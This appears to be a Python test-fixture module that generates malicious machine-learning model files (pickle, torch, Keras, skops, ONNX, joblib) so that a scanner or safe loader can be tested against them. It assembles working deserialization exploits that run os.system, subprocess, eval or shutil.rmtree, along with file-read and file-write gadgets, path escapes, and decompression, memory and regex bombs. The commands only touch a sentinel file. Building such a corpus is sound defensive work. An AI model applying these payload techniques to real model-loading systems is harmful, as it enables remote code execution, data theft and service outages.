"""Builders for the malicious-artifact corpus, generated at test time.

Nothing here is an exploit file: every payload is assembled in a temporary
directory by the test that uses it, and every one of them would only create a
sentinel file (or delete a canary directory) if it ever ran. The pickle
payloads are written opcode by opcode, so each one is exactly the stream
described, with no help from ``__reduce__`` on the attacker's side.
"""

from __future__ import annotations

import json
import os
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

# -- a tiny pickle assembler ----------------------------------------------------
PROTO = b"\x80\x04"
STOP = b"."
MARK = b"("


def glob(module: str, name: str) -> bytes:
    """GLOBAL: push ``module.name`` (the opcode every scanner looks for)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def stack_glob(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4): the names come from the stack, not the opcode."""
    return s(module) + s(name) + b"\x93"


def s(text: str) -> bytes:
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def by(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def lst(*items: bytes) -> bytes:
    return b"]" + MARK + b"".join(items) + b"e"


def call(fn: bytes, *args: bytes) -> bytes:
    """REDUCE: ``fn(*args)``."""
    return fn + MARK + b"".join(args) + b"tR"


def getattr_(obj: bytes, name: str) -> bytes:
    return call(glob("builtins", "getattr"), obj, s(name))


def pickle_of(body: bytes) -> bytes:
    return PROTO + body + STOP


@dataclass(frozen=True)
class Sentinel:
    """What a payload would touch if it ran."""

    file: Path
    """Created by every payload that runs a command or code."""
    canary: Path
    """A directory the shutil.rmtree payload would delete."""
    script: Path
    """A Python script the runpy payload would run (it creates ``file``)."""

    @property
    def cmd(self) -> str:
        return f"touch {self.file}"

    @property
    def argv(self) -> list[str]:
        return ["touch", str(self.file)]

    @property
    def code(self) -> str:
        return f"open({str(self.file)!r}, 'w').close()"

    def tripped(self) -> bool:
        return self.file.exists() or not self.canary.is_dir()


PICKLE_PAYLOADS: dict[str, Callable[[Sentinel], bytes]] = {
    "os.system": lambda t: call(glob("os", "system"), s(t.cmd)),
    "posix.system": lambda t: call(glob("posix", "system"), s(t.cmd)),
    "os.system via STACK_GLOBAL": lambda t: call(stack_glob("os", "system"), s(t.cmd)),
    "subprocess.Popen": lambda t: call(glob("subprocess", "Popen"), lst(s("touch"), s(str(t.file)))),
    "subprocess.check_output": lambda t: call(
        glob("subprocess", "check_output"), lst(s("touch"), s(str(t.file)))
    ),
    "builtins.eval": lambda t: call(glob("builtins", "eval"), s(t.code)),
    "builtins.exec": lambda t: call(glob("builtins", "exec"), s(t.code)),
    "builtins.__import__ + getattr chain": lambda t: call(
        getattr_(call(glob("builtins", "__import__"), s("os")), "system"), s(t.cmd)
    ),
    "operator.attrgetter chain": lambda t: call(
        call(
            call(glob("operator", "attrgetter"), s("system")),
            call(glob("importlib", "import_module"), s("os")),
        ),
        s(t.cmd),
    ),
    "importlib.import_module": lambda t: call(
        getattr_(call(glob("importlib", "import_module"), s("os")), "system"), s(t.cmd)
    ),
    "runpy.run_path": lambda t: call(glob("runpy", "run_path"), s(str(t.script))),
    "timeit.timeit": lambda t: call(glob("timeit", "timeit"), s("pass"), s(t.code)),
    "pty.spawn": lambda t: call(glob("pty", "spawn"), lst(s("touch"), s(str(t.file)))),
    "code.InteractiveInterpreter": lambda t: call(
        getattr_(call(glob("code", "InteractiveInterpreter")), "runsource"), s(t.code)
    ),
    "ctypes.CDLL(None).system": lambda t: call(
        getattr_(call(glob("ctypes", "CDLL"), b"N"), "system"), by(t.cmd.encode())
    ),
    "shutil.rmtree": lambda t: call(glob("shutil", "rmtree"), s(str(t.canary))),
    "webbrowser.open": lambda t: call(glob("webbrowser", "open"), s(str(t.file))),
    "nested inside plain containers": lambda t: (
        b"}"
        + MARK
        + s("coef_")
        + lst(s("x"), b"}" + MARK + s("y") + call(glob("os", "system"), s(t.cmd)) + b"u")
        + b"u"
    ),
    "memoized global fetched later": lambda t: (
        glob("os", "system") + b"p0\n0" + lst(s("harmless")) + b"0" + call(b"g0\n", s(t.cmd))
    ),
    "numpy reconstruct then os.system": lambda t: (
        call(glob("numpy._core.multiarray", "_reconstruct"), glob("numpy", "ndarray"), b"K\x00\x85", by(b"b"))
        + b"0"
        + call(glob("os", "system"), s(t.cmd))
    ),
}
"""Payload name -> pickle body (without PROTO/STOP). Each would trip the sentinel."""


def write_runpy_script(t: Sentinel) -> None:
    t.script.write_text(f"open({str(t.file)!r}, 'w').close()\n")


def sklearn_pipeline_with_payload(t: Sentinel) -> object:
    """A fitted, working sklearn pipeline with one attribute that runs a command on load."""
    import numpy as np
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler

    class Hidden:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            import os

            return (os.system, (t.cmd,))

    x = np.array([[0.0, 1.0], [1.0, 0.0], [0.5, 0.5], [0.9, 0.1]])
    y = np.array([0, 1, 0, 1])
    pipe = Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression())]).fit(x, y)
    pipe.steps[1][1].hidden_ = Hidden()
    return pipe


def skops_pipeline_calling(path: Path, func: Callable[..., object]) -> None:
    """A fitted sklearn pipeline saved with skops whose first step calls ``func(X)`` on predict.

    With ``subprocess.run``, predicting the rows ``["touch", <sentinel file>]`` runs the command.
    skops stores ``func`` by name, so loading the file rebuilds it as a live function.
    """
    import numpy as np
    import skops.io
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer

    x = np.array([[0.0, 1.0], [1.0, 0.0], [0.5, 0.5], [0.9, 0.1]])
    pipe = Pipeline([("call", FunctionTransformer()), ("clf", LogisticRegression())]).fit(x, [0, 1, 0, 1])
    # NOTE: set after fitting, so building the payload never calls it.
    pipe.steps[0][1].func = func
    skops.io.dump(pipe, path)


def torch_file_with_pickle(path: Path, pickle_bytes: bytes) -> None:
    """A real torch.save archive whose data.pkl is replaced with ``pickle_bytes``."""
    import torch

    tmp = path.with_suffix(".tmp")
    torch.save({"weight": torch.zeros(2)}, tmp)
    with zipfile.ZipFile(tmp) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as dst:
        for name in src.namelist():
            data = pickle_bytes if name.endswith("/data.pkl") else src.read(name)
            dst.writestr(name, data)
    tmp.unlink()


def keras_lambda(path: Path, t: Sentinel) -> None:
    """A .keras (or .h5, by suffix) model with a Lambda layer that runs a command when called."""
    import keras

    # NOTE: a real `lambda`, which Keras stores as bytecode (a named function is
    # stored by name only). Keras calls it while building the model here, so it
    # skips while the marker is set; a load anywhere else would run the command.
    source = (
        f"lambda x: (__import__('os').system({t.cmd!r}) "
        "if __import__('os').environ.get('CORPUS_BUILDING') != '1' else 0, x)[1]"
    )
    evil = eval(source)  # noqa: S307 -- NOTE: builds the payload under test from our own string

    os.environ["CORPUS_BUILDING"] = "1"
    try:
        model = keras.Sequential([keras.Input((2,)), keras.layers.Lambda(evil)])
        model.save(path)
    finally:
        del os.environ["CORPUS_BUILDING"]


def keras_config_naming_function(path: Path, t: Sentinel) -> None:
    """A valid .keras archive whose config.json makes a layer out of subprocess.Popen."""
    import keras

    model = keras.Sequential([keras.Input((2,)), keras.layers.Dense(1)])
    tmp = path.with_suffix(".tmp.keras")
    model.save(tmp)
    with zipfile.ZipFile(tmp) as src:
        members = {n: src.read(n) for n in src.namelist()}
    config = json.loads(members["config.json"])
    layers = config["config"]["layers"]
    layers.append(
        {
            "module": "subprocess",
            "class_name": "Popen",
            "config": {"args": ["touch", str(t.file)]},
            "registered_name": None,
        }
    )
    # NOTE: and an activation resolved by module + name, the CVE-2025-1550 shape.
    for layer in layers:
        if layer.get("class_name") == "Dense":
            layer["config"]["activation"] = {
                "module": "os",
                "class_name": "function",
                "config": "system",
                "registered_name": "system",
            }
    members["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(path, "w") as dst:
        for name, data in members.items():
            dst.writestr(name, data)
    tmp.unlink()


def onnx_with_external_data_outside(path: Path, location: str) -> None:
    """An ONNX model whose initializer's external data lives at ``location``."""
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    weight = numpy_helper.from_array(np.ones((2, 2), dtype=np.float32), "W")
    weight.ClearField("raw_data")
    weight.data_location = TensorProto.EXTERNAL
    for key, value in {"location": location, "offset": "0", "length": "16"}.items():
        entry = weight.external_data.add()
        entry.key, entry.value = key, value
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["X", "W"], ["Y"])],
        "g",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [None, 2])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [None, 2])],
        [weight],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    path.write_bytes(model.SerializeToString())


# -- the trust-boundary round: gadgets through classes the old allowlist admitted, ------
# -- file reads through skops's default trusted types, crashes and bombs ----------------
def scipy_distribution_gadget(t: Sentinel) -> bytes:
    """A scipy.stats distribution whose __setstate__ exec()s ``_parse_arg_template`` from its state.

    Every global it names is a class of scipy or the standard library's own
    pickle helper, which a by-package allowlist admitted.
    """
    state = b"}" + MARK + s("_parse_arg_template") + s(t.code) + b"u"
    obj = call(
        glob("copyreg", "_reconstructor"),
        glob("scipy.stats._continuous_distns", "norm_gen"),
        glob("builtins", "object"),
        b"N",
    )
    return obj + state + b"b"


def sklearn_class_as_callable(t: Sentinel) -> object:
    """FunctionTransformer(func=numpy.ndarray): an admitted class that predict() would call on client data."""
    import numpy as np
    from sklearn.preprocessing import FunctionTransformer

    return FunctionTransformer(func=np.ndarray)


def vectorizer_reading_files(input_kind: str = "filename") -> object:
    """A fitted text pipeline of skops-trusted types that opens whatever path a client sends."""
    from sklearn.feature_extraction.text import CountVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline

    model = make_pipeline(CountVectorizer(analyzer="char"), LogisticRegression(max_iter=200))
    model.fit(["aaa", "bbb", "abab", "baba"], [0, 1, 0, 1])
    model.steps[0][1].input = input_kind
    return model


def tree_pointing_out_of_bounds() -> object:
    """A fitted DecisionTreeClassifier whose root's left child is far past the node array."""
    import numpy as np
    from sklearn.tree import DecisionTreeClassifier
    from sklearn.tree._tree import Tree

    x = np.array([[0.0], [1.0], [2.0], [3.0]])
    model = DecisionTreeClassifier(random_state=0).fit(x, [0, 0, 1, 1])
    state = model.tree_.__getstate__()
    state["nodes"]["left_child"][0] = 50_000_000
    tree = Tree(model.n_features_in_, np.array([model.n_classes_], dtype=np.intp), model.n_outputs_)
    tree.__setstate__(state)
    model.tree_ = tree
    return model


def write_xz_joblib_bomb(path: Path, expanded: int) -> None:
    """A joblib file (xz, joblib's own compression) whose pickle holds ``expanded`` zero bytes."""
    import lzma

    header = PROTO + b"\x8e" + struct.pack("<Q", expanded)  # BINBYTES8
    comp = lzma.LZMACompressor(format=lzma.FORMAT_XZ, preset=0)
    chunk = bytes(8 * 1024 * 1024)
    with open(path, "wb") as f:
        f.write(comp.compress(header))
        left = expanded
        while left:
            n = min(left, len(chunk))
            f.write(comp.compress(chunk[:n]))
            left -= n
        f.write(comp.compress(STOP))
        f.write(comp.flush())


def write_skops_schema_bomb(path: Path, expanded: int) -> None:
    """A skops-looking zip whose schema.json deflates to ``expanded`` bytes of whitespace."""
    chunk = b" " * (8 * 1024 * 1024)
    with (
        zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as z,
        z.open("schema.json", "w", force_zip64=True) as member,
    ):
        member.write(b'{"__class__": "dict", "__module__": "builtins", "content": {}')
        left = expanded
        while left:
            n = min(left, len(chunk))
            member.write(chunk[:n])
            left -= n
        member.write(b"}")


def onnx_with_sparse_external_data(path: Path, location: str) -> None:
    """An ONNX model whose sparse initializer's values name external data at ``location``."""
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    values = numpy_helper.from_array(np.ones(2, dtype=np.float32), "W")
    values.ClearField("raw_data")
    values.data_location = TensorProto.EXTERNAL
    for key, value in {"location": location, "offset": "0", "length": "8"}.items():
        entry = values.external_data.add()
        entry.key, entry.value = key, value
    indices = numpy_helper.from_array(np.array([0, 3], dtype=np.int64), "W_idx")
    sparse = helper.make_sparse_tensor(values, indices, [2, 2])
    graph = helper.make_graph(
        [helper.make_node("Identity", ["X"], ["Y"])],
        "g",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [None, 2])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [None, 2])],
        sparse_initializer=[sparse],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    path.write_bytes(model.SerializeToString())


# -- found by an attacker who was not shown the defences (second round) --------------------
def _skops_schema(model: object) -> tuple[dict[str, object], dict[str, bytes]]:
    import io
    import json

    import skops.io as sio

    with zipfile.ZipFile(io.BytesIO(sio.dumps(model))) as z:
        members = {n: z.read(n) for n in z.namelist()}
    return json.loads(members.pop("schema.json")), members


def _write_skops(path: Path, schema: dict[str, object], members: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("schema.json", json.dumps(schema))
        for name, data in members.items():
            z.writestr(name, data)


def skops_key_type_method_writing_a_file(path: Path, t: Sentinel) -> None:
    """A skops LinearRegression whose dict's key_types entry is ``payload_array.tofile``.

    skops's DictNode calls each key type on its key, so loading would run
    ``payload.tofile(<sentinel path>)``: a file written by a model at load.
    """
    import numpy as np
    from sklearn.linear_model import LinearRegression

    model = LinearRegression().fit(np.arange(8.0).reshape(4, 2), [0.0, 1.0, 2.0, 3.0])
    model.extra = {"k": 1}  # type: ignore[attr-defined]
    model.payload = np.frombuffer(b"written by a model\n", dtype=np.uint8)  # type: ignore[attr-defined]
    schema, members = _skops_schema(model)
    attrs = schema["content"]["content"]  # type: ignore[index]
    extra = attrs["extra"]
    extra["content"] = {str(t.file): extra["content"]["k"]}
    extra["key_types"]["content"][0] = {
        "__class__": "ndarray",
        "__module__": "numpy",
        "__loader__": "MethodNode",
        "content": {"func": "tofile", "obj": attrs["payload"]},
    }
    _write_skops(path, schema, members)


def skops_dict_subclass_step(path: Path) -> None:
    """A skops Pipeline step that is an OrderedDict whose *instance* ``__dict__`` holds ``predict``.

    The callable is ``numpy.fromfile`` (reached by skops's attribute lookup), so
    predict would read a server file; the step hides it from a walk of dict items.
    """
    schema = {
        "__class__": "Pipeline",
        "__module__": "sklearn.pipeline",
        "__loader__": "ObjectNode",
        "content": _skops_dict(
            {
                "steps": _skops_list(
                    [
                        _skops_tuple(
                            [
                                _skops_json("read"),
                                {
                                    "__class__": "OrderedDict",
                                    "__module__": "collections",
                                    "__loader__": "ObjectNode",
                                    "content": _skops_dict({"predict": _skops_function("numpy", "fromfile")}),
                                },
                            ]
                        )
                    ]
                ),
                "verbose": _skops_json(False),
            }
        ),
        "protocol": 2,
        "_skops_version": "0.16.0",
    }
    _write_skops(path, schema, {})


def _skops_json(value: object) -> dict[str, object]:
    names = {str: "str", bool: "bool", int: "int", float: "float", type(None): "NoneType"}
    return {
        "__class__": names[type(value)],
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "content": json.dumps(value),
        "is_json": True,
    }


def _skops_function(module: str, name: str) -> dict[str, object]:
    return {"__class__": name, "__module__": module, "__loader__": "FunctionNode"}


def _skops_dict(items: dict[str, object]) -> dict[str, object]:
    str_type = {"__class__": "str", "__module__": "builtins", "__loader__": "TypeNode"}
    return {
        "__class__": "dict",
        "__module__": "builtins",
        "__loader__": "DictNode",
        "content": items,
        "key_types": _skops_list([str_type for _ in items]),
    }


def _skops_list(items: list[object]) -> dict[str, object]:
    return {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": items}


def _skops_tuple(items: list[object]) -> dict[str, object]:
    return {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": items}


class _ZeroStride:
    """Pickles as ``numpy.ndarray((rows, 4), 'f8', 8 bytes, 0, (0, 0))``: a huge view of 8 bytes."""

    def __init__(self, rows: int) -> None:
        self.rows = rows

    def __reduce__(self) -> tuple[object, ...]:
        import numpy as np

        return (np.ndarray, ((self.rows, 4), "f8", b"\0" * 8, 0, (0, 0)))


def linear_model_with_zero_stride_coef(rows: int = 50_000_000) -> object:
    """A LinearRegression whose coef_ spans 1.6 GB over 8 bytes: every predicted row allocates it."""
    import numpy as np
    from sklearn.linear_model import LinearRegression

    model = LinearRegression().fit(np.random.default_rng(0).random((10, 4)), np.arange(10.0))
    model.coef_ = _ZeroStride(rows)
    model.intercept_ = 0.0
    return model


def vectorizer_with_backtracking_pattern() -> object:
    """A fitted CountVectorizer pipeline whose token_pattern backtracks catastrophically on text."""
    from sklearn.feature_extraction.text import CountVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline

    model = make_pipeline(CountVectorizer(), LogisticRegression(max_iter=200))
    model.fit(["aaa bbb", "bbb ccc", "aaa ccc", "ccc ddd"], [0, 1, 0, 1])
    model.steps[0][1].token_pattern = r"(?:.|\s)*(?:.|\s)*(?:.|\s)*\x00"
    return model
